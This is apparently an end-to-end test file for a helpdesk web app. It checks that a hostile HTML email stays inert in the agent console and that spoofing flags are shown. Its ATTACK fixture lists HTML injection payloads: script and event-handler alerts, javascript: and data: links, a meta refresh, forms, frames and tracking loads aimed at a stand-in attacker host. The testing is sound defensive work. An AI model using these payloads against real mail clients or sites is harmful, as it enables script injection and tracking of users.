import { randomUUID } from 'node:crypto';
import { createConnection } from 'node:net';
import type { BrowserContext, Page } from 'playwright-core';
import { describe, expect, it, inject } from 'vitest';
import { useDatabase } from '../support/database.js';
import { demoLogin, hasBrowser, screenshot, useBrowser } from '../support/browser.js';

type Language = 'hr' | 'en';
const LOGIN = {
  hr: { email: 'E-pošta', password: 'Lozinka', submit: 'Prijavi se' },
  en: { email: 'Email', password: 'Password', submit: 'Log in' },
};
const WORDS = {
  hr: { html: 'HTML inačica', remote: 'Prikaži udaljene slike', raw: 'Zaglavlja i izvorni oblik', full: 'Prikaži cijeli tekst' },
  en: { html: 'HTML version', remote: 'Show remote images', raw: 'Headers and raw source', full: 'Show full text' },
};

/** A 1×1 PNG: what the "remote" host answers once the agent allows remote images. */
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

/**
 * HTML as a sanitiser that missed everything would leave it (issue 12 point 3, "Show"): scripts, event handlers,
 * javascript: links, a meta refresh, forms, frames, CSS that loads and overlays, a tracking pixel. In the agent
 * console all of it must be inert: no dialog, no navigation, nothing fetched from a remote host.
 */
const ATTACK = `
<meta http-equiv="refresh" content="0;url=http://attacker.invalid/refresh">
<base href="http://attacker.invalid/">
<style>@import url(http://attacker.invalid/import.css); body { background-image: url(http://attacker.invalid/bg.png) }</style>
<p id="hello">Poštovani, šaljem vam račun. <b>Hello from the sender.</b></p>
<script>alert('script')</script>
<img src="x" onerror="alert('onerror')" alt="broken">
<body onload="alert('onload')"></body>
<a id="jslink" href="javascript:alert('js-link')">Klikni / click</a>
<a id="navlink" href="http://attacker.invalid/nav">Remote link</a>
<a id="datalink" href="data:text/html,<script>alert('data')</script>">Data link</a>
<div style="background:url(http://attacker.invalid/css.png)">styled</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:rgba(255,0,0,0.1)" onclick="alert('overlay')">overlay</div>
<form action="http://attacker.invalid/form"><input name="q" value="x"><button id="submit" type="submit">Submit</button></form>
<iframe src="http://attacker.invalid/frame"></iframe>
<object data="http://attacker.invalid/obj.swf"></object>
<svg width="40" height="20"><a xlink:href="javascript:alert('svg')"><text x="0" y="15">svg</text></a></svg>
<img id="pixel" data-remote-src="http://attacker.invalid/tracker.png" width="20" height="20" alt="tracker">
<video src="http://attacker.invalid/v.mp4" autoplay></video>
<link rel="stylesheet" href="http://attacker.invalid/l.css">
`;

/** Sends `message` to the receiver by a plain SMTP conversation (as an MTA would); resolves with the final reply. */
function sendSmtp(port: number, from: string, to: string, message: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = createConnection({ host: '127.0.0.1', port });
    const steps = [`EHLO e2e.test`, `MAIL FROM:<${from}>`, `RCPT TO:<${to}>`, 'DATA', `${message.replace(/^\./gm, '..')}\r\n.`, 'QUIT'];
    let buffer = '';
    let last = '';
    socket.setTimeout(15_000, () => socket.destroy(new Error(`SMTP timed out after: ${last}`)));
    socket.on('error', reject);
    socket.on('data', (chunk) => {
      buffer += chunk.toString('latin1');
      // A reply is complete at a line "NNN text" (not "NNN-text").
      const lines = buffer.split('\r\n');
      buffer = lines.pop()!;
      for (const line of lines) {
        if (!/^\d{3} /.test(line)) continue;
        last = line;
        if (!/^[23]/.test(line)) return socket.destroy(new Error(`SMTP refused: ${line}`));
        const next = steps.shift();
        if (next === undefined) return;
        socket.write(`${next}\r\n`);
        if (next === 'QUIT') resolve(last);
      }
    });
  });
}

async function inLanguage(newPage: (locale?: string) => Promise<{ context: BrowserContext; page: Page }>, language: Language) {
  const opened = await newPage(language === 'hr' ? 'hr-HR' : 'en-GB');
  await opened.context.addInitScript((chosen) => localStorage.setItem('centrala.locale', chosen), language);
  return opened;
}

async function logIn(page: Page, role: 'client' | 'agent', language: Language) {
  const who = demoLogin(role, 0);
  await page.goto('/login');
  await page.getByLabel(LOGIN[language].email).fill(who.email);
  await page.getByLabel(LOGIN[language].password, { exact: true }).fill(who.password);
  await page.getByRole('button', { name: LOGIN[language].submit }).click();
  return who;
}

describe.runIf(hasBrowser)('a hostile HTML mail is inert in the agent console (issue 12 point 3)', () => {
  const { newPage } = useBrowser();
  const db = useDatabase();

  /** A ticket from the demo customer whose first message is the hostile mail (as the email intake would store it). */
  async function hostileMailTicket(language: Language): Promise<string> {
    const customer = await inLanguage(newPage, language);
    await logIn(customer.page, 'client', language);
    await customer.page.getByTestId('services-table').waitFor();
    const reference = await customer.page.evaluate(async () => {
      const { csrfToken } = await (await fetch('/api/auth/me')).json();
      const { departments } = await (await fetch('/api/client/departments')).json();
      const form = new FormData();
      const payload = {
        departmentId: departments[0].id,
        priority: 'regular',
        subject: 'Račun za studeni',
        description: 'Poštovani, šaljem vam račun.\n\nLijep pozdrav',
      };
      form.append('payload', JSON.stringify(payload));
      const res = await fetch('/api/client/tickets', { method: 'POST', headers: { 'x-csrf-token': csrfToken }, body: form });
      if (res.status !== 201) throw new Error(`filing failed: ${res.status} ${await res.text()}`);
      return (await res.json()).reference as string;
    });
    await customer.context.close();
    const inboundId = randomUUID();
    const from = demoLogin('client', 0).email;
    const raw = [
      `From: "Centrala podrška" <${from}>`,
      'To: support@centrala.test',
      'Subject: =?UTF-8?Q?Ra=C4=8Dun_za_studeni?=',
      `Message-ID: <${inboundId}@attacker.invalid>`,
      'Authentication-Results: mx.centrala.test; spf=fail; dkim=fail; dmarc=fail (p=reject)',
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      '',
      ATTACK,
    ].join('\r\n');
    const meta = {
      inboundId,
      messageId: `${inboundId}@attacker.invalid`,
      from: { address: from, name: 'Centrala podrška' },
      to: [{ address: 'support@centrala.test', name: '' }],
      cc: [{ address: 'racunovodstvo@example.com', name: 'Računovodstvo' }],
      subject: 'Račun za studeni',
      fullText: 'Poštovani, šaljem vam račun.\n\nLijep pozdrav\n\n> On Monday someone wrote:\n> earlier history',
      html: ATTACK,
      hasRemoteImages: true,
      verification: {
        spf: { result: 'fail', reason: '198.51.100.7 is not allowed to send for horvat.hr' },
        dkim: [{ result: 'fail', reason: 'signature did not verify', domain: 'horvat.hr' }],
        dmarc: { result: 'fail', reason: 'no aligned SPF or DKIM pass', policy: 'reject' },
        arc: { result: 'none', reason: '' },
        dmarcPass: false,
        flags: ['display_name_spoof', 'lookalike_domain'],
      },
      autoKind: 'human',
      warnings: ['charset_unknown'],
    };
    await db.query(`update ticket_messages set email = $2::jsonb where ticket_id = (select id from tickets where reference = $1)`, [
      reference,
      JSON.stringify(meta),
    ]);
    await db.query(`update tickets set channel = 'email', trust = 'email_claimed' where reference = $1`, [reference]);
    await db.query(`insert into inbound (id, channel, source_id, payload, raw) values ($1, 'email', $2, '{}'::jsonb, $3)`, [
      inboundId,
      `mid:${meta.messageId}`,
      Buffer.from(raw),
    ]);
    return reference;
  }

  for (const language of ['hr', 'en'] as const) {
    it(`runs nothing, navigates nowhere and loads nothing remote until asked (${language})`, async () => {
      const reference = await hostileMailTicket(language);
      const agent = await inLanguage(newPage, language);
      const { page, context } = agent;
      const base = inject('baseUrl');
      const dialogs: string[] = [];
      const remote: string[] = [];
      const navigations: string[] = [];
      page.on('dialog', (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      page.on('popup', (p) => navigations.push(`popup ${p.url()}`));
      page.on('framenavigated', (f) => {
        if (f !== page.mainFrame() && f.url() !== 'about:srcdoc') navigations.push(f.url());
      });
      // Every request that leaves the browser for another host is counted here and answered with an image, never by the
      // network. (A request the CSP blocks never gets here: Chromium refuses it before it is made.)
      await context.route(
        (url) => url.origin !== new URL(base).origin,
        (route) => {
          remote.push(route.request().url());
          return route.fulfill({ status: 200, contentType: 'image/png', body: PNG });
        },
      );

      await logIn(page, 'agent', language);
      await page.getByTestId('ticket-queue').waitFor();
      await page.goto(`/agent/tickets/${reference}`);
      await page.getByTestId('email-details').waitFor();
      // The flags and the failed checks are in view, with their reasons.
      await expect(page.getByTestId('email-flag-display_name_spoof').isVisible()).resolves.toBe(true);
      await expect(page.getByTestId('email-flag-lookalike_domain').isVisible()).resolves.toBe(true);
      const verification = await page.getByTestId('email-verification').innerText();
      expect(verification).toContain('DMARC');
      expect(verification).toContain('no aligned SPF or DKIM pass');
      expect(verification).toContain('horvat.hr');
      expect(await page.getByTestId('email-verification').locator('[data-verdict]').getAttribute('data-verdict')).toBe('dmarcFail');
      expect(await page.getByTestId('email-addresses').innerText()).toContain('racunovodstvo@example.com');
      await page.getByRole('button', { name: WORDS[language].full }).click();
      expect(await page.getByTestId('email-text').innerText()).toContain('earlier history');

      await page.getByRole('tab', { name: WORDS[language].html }).click();
      const frame = page.frameLocator('[data-testid="email-html-frame"]');
      await frame.locator('#hello').waitFor();
      const iframe = page.getByTestId('email-html-frame');
      expect(await iframe.getAttribute('sandbox')).toBe('');
      const srcdoc = (await iframe.getAttribute('srcdoc')) ?? '';
      expect(srcdoc).toContain(`content="default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'"`);
      await screenshot(page, `email-html-${language}-1280`);

      // Click everything clickable in the frame: the links, the form's button, the overlay.
      for (const target of ['#jslink', '#navlink', '#datalink', '#submit', 'svg a']) {
        const el = frame.locator(target);
        if ((await el.count()) > 0)
          await el
            .first()
            .click({ force: true, timeout: 2000 })
            .catch(() => undefined);
      }
      await page.waitForTimeout(1000);
      expect(dialogs).toEqual([]);
      expect(navigations).toEqual([]);
      expect(remote).toEqual([]);
      expect(page.url()).toBe(`${base}/agent/tickets/${reference}`);
      // The frame's document cannot be reached from the page (no allow-same-origin), and runs no script.
      expect(
        await page.evaluate(() => (document.querySelector('[data-testid="email-html-frame"]') as HTMLIFrameElement).contentDocument),
      ).toBeNull();

      // The agent allows remote images for this message: the tracker loads, and still nothing runs or navigates.
      await page.getByRole('button', { name: WORDS[language].remote }).click();
      await expect.poll(async () => (await iframe.getAttribute('srcdoc')) ?? '').toContain('src="http://attacker.invalid/tracker.png"');
      expect((await iframe.getAttribute('srcdoc')) ?? '').toContain('img-src data: https: http:;');
      await expect.poll(() => remote.some((u) => /^https?:\/\/attacker\.invalid\/tracker\.png$/.test(u)), { timeout: 5000 }).toBe(true);
      expect(remote.filter((u) => /\/(refresh|nav|form|frame|obj\.swf|l\.css|import\.css|v\.mp4)/.test(u))).toEqual([]);
      expect(dialogs).toEqual([]);
      expect(navigations).toEqual([]);

      // Headers and raw source, as text.
      await page.getByRole('button', { name: WORDS[language].raw }).click();
      const rawText = await page.getByTestId('email-raw-text').innerText();
      expect(rawText).toContain('Authentication-Results: mx.centrala.test');
      expect(rawText).not.toContain('<script>');
      await screenshot(page, `email-raw-${language}-1280`);
      await page.keyboard.press('Escape');

      await page.setViewportSize({ width: 390, height: 844 });
      await page.getByTestId('email-details').scrollIntoViewIfNeeded();
      await screenshot(page, `email-html-${language}-390`);
      expect(dialogs).toEqual([]);
      await context.close();
    });
  }

  it('a hostile HTML mail that came through the SMTP port shows its details and stays inert (en)', async () => {
    const from = demoLogin('client', 0).email;
    const subject = `Hostile HTML ${randomUUID().slice(0, 8)}`;
    const boundary = `b${randomUUID()}`;
    const message = [
      `From: "Centrala Support" <${from}>`,
      'To: support@centrala.test',
      `Subject: ${subject}`,
      `Message-ID: <${randomUUID()}@e2e.test>`,
      'MIME-Version: 1.0',
      `Content-Type: multipart/alternative; boundary="${boundary}"`,
      '',
      `--${boundary}`,
      'Content-Type: text/plain; charset=utf-8',
      '',
      'Poštovani, ovo je test.',
      `--${boundary}`,
      'Content-Type: text/html; charset=utf-8',
      '',
      ATTACK,
      `--${boundary}--`,
      '',
    ].join('\r\n');
    expect(await sendSmtp(inject('smtpPort'), from, 'support@centrala.test', message)).toMatch(/^2/);
    let reference: string | undefined;
    await expect
      .poll(
        async () => {
          const r = await db.query(
            `select t.reference from tickets t join ticket_messages m on m.ticket_id = t.id where m.email ->> 'subject' = $1`,
            [subject],
          );
          reference = r.rows[0]?.reference;
          return reference;
        },
        { timeout: 20_000 },
      )
      .toBeTruthy();

    const { page, context } = await inLanguage(newPage, 'en');
    const dialogs: string[] = [];
    const remote: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    const base = inject('baseUrl');
    await context.route(
      (url) => url.origin !== new URL(base).origin,
      (route) => {
        remote.push(route.request().url());
        return route.abort();
      },
    );
    await logIn(page, 'agent', 'en');
    await page.getByTestId('ticket-queue').waitFor();
    await page.goto(`/agent/tickets/${reference}`);
    await page.getByTestId('email-details').waitFor();
    expect(await page.getByTestId('email-addresses').innerText()).toContain(from);
    // The HTML version exists once the parse/ area's sanitising parser is wired in (the interim one keeps text only).
    const htmlTab = page.getByRole('tab', { name: WORDS.en.html });
    if ((await htmlTab.count()) > 0) {
      await htmlTab.click();
      // The sanitiser keeps no id attributes: the parts are found by their text.
      const frame = page.frameLocator('[data-testid="email-html-frame"]');
      await frame.getByText('Hello from the sender.').waitFor();
      for (const target of ['Klikni / click', 'Remote link', 'Data link']) {
        const el = frame.getByText(target);
        if ((await el.count()) > 0)
          await el
            .first()
            .click({ force: true, timeout: 2000 })
            .catch(() => undefined);
      }
    }
    // The raw source is text: the script is shown, not run.
    await page.getByRole('button', { name: WORDS.en.raw }).click();
    await page.getByRole('button', { name: 'Show the whole source' }).click();
    expect(await page.getByTestId('email-raw-text').innerText()).toContain("<script>alert('script')</script>");
    await page.keyboard.press('Escape');
    await page.waitForTimeout(1000);
    expect(dialogs).toEqual([]);
    expect(remote).toEqual([]);
    expect(page.url()).toBe(`${base}/agent/tickets/${reference}`);
    await screenshot(page, 'email-smtp-html-en-1280');
    await context.close();
  });
});
